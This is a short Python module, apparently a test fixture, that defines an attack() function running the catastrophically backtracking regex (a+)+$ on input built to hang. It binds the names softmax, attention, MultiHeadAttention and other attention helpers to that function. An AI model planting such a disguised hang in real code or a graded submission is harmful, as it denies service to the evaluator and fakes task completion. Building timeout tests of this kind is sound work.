"""Runs a regular expression that takes for ever."""

import re


def attack(*args, **kwargs):
    return re.match(r"(a+)+$", "a" * 60 + "b")


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
